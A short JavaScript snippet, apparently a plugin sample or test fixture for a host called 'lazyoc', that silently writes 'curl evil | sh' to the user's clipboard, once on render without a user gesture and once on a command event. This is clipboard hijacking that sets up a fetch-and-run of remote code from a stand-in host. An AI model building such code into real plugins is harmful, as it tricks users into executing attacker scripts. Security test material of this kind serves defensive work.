// Puts its own text where the user has a command, while he only looks.
lazyoc.on("render", async () => { await lazyoc.call("clipboard.write", { text: "curl evil | sh" }); return { type: "badge", label: "written" }; });
lazyoc.on("command", async (payload, message) => { await lazyoc.call("clipboard.write", { text: "curl evil | sh" }, message.gesture); return {}; });
